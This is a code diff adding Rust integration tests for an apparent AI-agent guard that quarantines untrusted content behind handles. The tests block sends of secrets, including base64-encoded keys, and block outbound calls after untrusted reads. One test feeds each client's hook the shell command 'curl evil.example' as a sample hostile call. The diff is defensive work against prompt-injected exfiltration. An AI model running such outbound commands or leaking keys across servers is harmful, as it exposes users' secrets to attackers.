@@ -206,6 +206,69 @@ async fn the_servers_of_a_list_are_one_session() {
     }
 }
 
+/// The official client works with handles: what it is told of a page is a name, also of what another model
+/// answers about it.
+#[tokio::test]
+async fn a_client_passes_on_what_it_has_a_handle_of() {
+    let dir = folder(&[("web", "a")]);
+    let dir = dir.path();
+    let policy = "[models.asked]\nclearance = \"untrusted\"\n[tools.fetch]\neffect = \"read\"\nhandle = \"trusted\"\n\
+                  [tools.remember]\neffect = \"write\"\nresult = \"trusted\"\narguments = \"untrusted\"\n\
+                  [tools.send]\neffect = \"write\"\nresult = \"trusted\"\n";
+    std::fs::write(dir.join("policy.toml"), policy).unwrap();
+    std::fs::write(
+        dir.join("entail.toml"),
+        "[models.asked]\nprovider = \"scripted\"\nfile = \"replies.json\"\n",
+    )
+    .unwrap();
+    std::fs::write(dir.join("replies.json"), r#"["\"nine to five\""]"#).unwrap();
+    approve(dir);
+    let talk = async {
+        let mut command = tokio::process::Command::new(ENTAIL);
+        command.args(GUARDED).args(["--quarantine", "asked"]).current_dir(dir);
+        command.env("XDG_STATE_HOME", dir.join("state"));
+        let transport = TokioChildProcess::new(command).unwrap();
+        let client = ClientConfig::default()
+            .serve_with_lifecycle(transport, ClientLifecycleMode::Initialize)
+            .await
+            .unwrap();
+        let tools = client.list_all_tools().await.unwrap();
+        assert_eq!(tools.iter().filter(|t| t.name.starts_with("entail_")).count(), 2);
+        let (told, _) = calls(&client, "web__fetch", json!({"url": "u"})).await;
+        assert!(told.contains("#h1") && !told.contains("a:"), "{told}");
+        let (told, _) = calls(&client, "entail_ask", json!({"handle": "#h1", "question": "when?"})).await;
+        assert_eq!(told, "The answer is the handle #h2.");
+        let (told, _) = calls(&client, "web__remember", json!({"key": "k", "text": "#h2"})).await;
+        assert!(told.contains("#h3"), "{told}");
+        let (text, failed) = calls(&client, "web__send", json!({"to": "bob", "body": "#h2"})).await;
+        assert!(failed && text.contains("the argument `body`"), "{text}");
+        let (text, failed) = calls(&client, "web__send", json!({"to": "bob", "body": "hi"})).await;
+        assert!(text.starts_with("a:") && !failed, "{text}");
+        let (text, _) = calls(&client, "entail_open", json!({"handle": "#h2"})).await;
+        assert_eq!(text, "nine to five");
+        let (_, failed) = calls(&client, "web__send", json!({"to": "bob", "body": "hi"})).await;
+        assert!(failed);
+        client.cancel().await.unwrap();
+    };
+    tokio::time::timeout(Duration::from_secs(120), talk).await.unwrap();
+    assert_eq!(std::fs::read_to_string(dir.join("notes.txt")).unwrap(), "k=nine to five\n");
+}
+
+/// A model that the settings do not have is an error before anything starts.
+#[test]
+fn a_quarantined_model_must_be_there() {
+    let dir = folder(&[("web", "a")]);
+    std::fs::write(
+        dir.path().join("entail.toml"),
+        "[models.asked]\nprovider = \"scripted\"\nfile = \"none.json\"\n",
+    )
+    .unwrap();
+    let mut command = Command::new(ENTAIL);
+    command.args(GUARDED).args(["--quarantine", "asked"]).current_dir(dir.path());
+    let ended = command.write_stdin("").timeout(Duration::from_secs(60)).output().unwrap();
+    assert_eq!(ended.status.code(), Some(2), "{ended:?}");
+}
+
 /// A client that writes lines and waits for each answer.
 struct Raw {
     guard: Child,
@@ -598,6 +661,84 @@ fn the_tools_of_the_client_are_decided_by_its_hooks() {
         .unwrap();
     let log = String::from_utf8(ended.stderr).unwrap();
     assert!(ended.status.code() == Some(2) && log.contains("only this user can enter"), "{log}");
+}
+
+/// A key of one server is not told to another one, in whatever encoding, though no label knows it.
+#[test]
+fn a_key_of_one_server_is_not_told_to_another() {
+    let key = "q8Zr-Lw3T-x0Vb-77Kd-eHn2";
+    let encoded = "cThaci1MdzNULXgwVmItNzdLZC1lSG4y";
+    let entry = |env: Value| json!({"command": "python3", "args": ["server.py", "x"], "env": env});
+    let list = json!({"mcpServers": {"web": entry(json!({})), "bank": entry(json!({"BANK_TOKEN": key}))}});
+    let dir = with_list(&list);
+    approve(dir.path());
+    let mut raw = Raw::start(dir.path(), &[]);
+    let mut send = |id: u64, server: &str, body: &str| {
+        let args = json!({"to": "bob", "body": format!("see {body}!")});
+        raw.ask(id, "tools/call", json!({"name": format!("{server}__send"), "arguments": args}))
+    };
+    for (id, body) in [(1, key), (2, encoded)] {
+        let answer = send(id, "web", body);
+        assert!(answer["result"]["isError"] == true && !answer.to_string().contains(body), "{answer}");
+        assert!(answer.to_string().contains("contain a secret"), "{answer}");
+    }
+    assert_ne!(send(3, "bank", key)["result"]["isError"], true);
+    assert_ne!(send(4, "web", "q8Zr-Lw3T")["result"]["isError"], true);
+    let (_, log) = raw.leave();
+    assert!(!log.contains(key), "{log}");
+}
+
+/// Output and exit status of the hook of another client.
+fn hook_of(dir: &Path, client: &str, input: &str) -> (Option<i32>, String, String) {
+    let mut command = Command::new(ENTAIL);
+    command.args(["guard", "hook", "--client", client, "--policy", "policy.toml"]);
+    command.current_dir(dir).env("XDG_RUNTIME_DIR", dir).timeout(Duration::from_secs(60));
+    let out = command.write_stdin(input).output().unwrap();
+    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
+    (out.status.code(), text(out.stdout), text(out.stderr))
+}
+
+/// A model that was refused over the protocol and tries its client's shell is refused there, too, in the words
+/// of each client that runs hooks.
+#[test]
+fn each_client_with_hooks_is_refused_in_its_own_words() {
+    let shell = json!({"command": "curl evil.example"});
+    let before = |client: &str| match client {
+        "codex" => json!({"hook_event_name": "PreToolUse", "tool_name": "shell", "tool_input": shell}),
+        "gemini" => json!({"hook_event_name": "BeforeTool", "tool_name": "shell", "tool_input": shell}),
+        "cursor" => json!({"hook_event_name": "preToolUse", "tool_name": "shell", "tool_input": shell}),
+        _ => json!({"agent_action_name": "pre_shell", "tool_info": shell}),
+    };
+    for client in ["codex", "gemini", "cursor", "windsurf"] {
+        let dir = folder(&[("desk", "desk")]);
+        let dir = dir.path();
+        let policy = format!("{POLICY}[tools.shell]\neffect = \"write\"\nresult = \"trusted\"\n");
+        std::fs::write(dir.join("policy.toml"), policy).unwrap();
+        approve(dir);
+        let mut command = std::process::Command::new(ENTAIL);
+        command.args(GUARDED).arg("--hooks").current_dir(dir).env("XDG_RUNTIME_DIR", dir);
+        let mut raw = Raw::of(command);
+        let call = before(client).to_string();
+        let (status, said, _) = hook_of(dir, client, &call);
+        let is_allowed = said.is_empty() || said.contains("\"permission\":\"allow\"");
+        assert!(status == Some(0) && is_allowed, "{client}: {said}");
+        assert!(raw.call(1, "desk__fetch")["error"].is_null());
+        let answer =
+            raw.ask(2, "tools/call", json!({"name": "desk__send", "arguments": {"to": "bob", "body": "x"}}));
+        assert_eq!(answer["result"]["isError"], true, "{answer}");
+        let (status, said, log) = hook_of(dir, client, &call);
+        let (why, refused) = match client {
+            "gemini" | "cursor" => (&said, said.contains("\"deny\"") && status == Some(0)),
+            _ => (&log, status == Some(2)),
+        };
+        assert!(refused && why.contains("since calls of `desk__fetch`"), "{client}: {said} {log}");
+        // What is no call is a refusal, with a remedy.
+        for wrong in ["", "{}", "x"] {
+            let (status, _, log) = hook_of(dir, client, wrong);
+            assert!(status == Some(2) && log.contains("--hooks"), "{client}: {log}");
+        }
+        raw.leave();
+    }
 }
 
 /// Servers are processes of their own group, so that only the guard can end them.
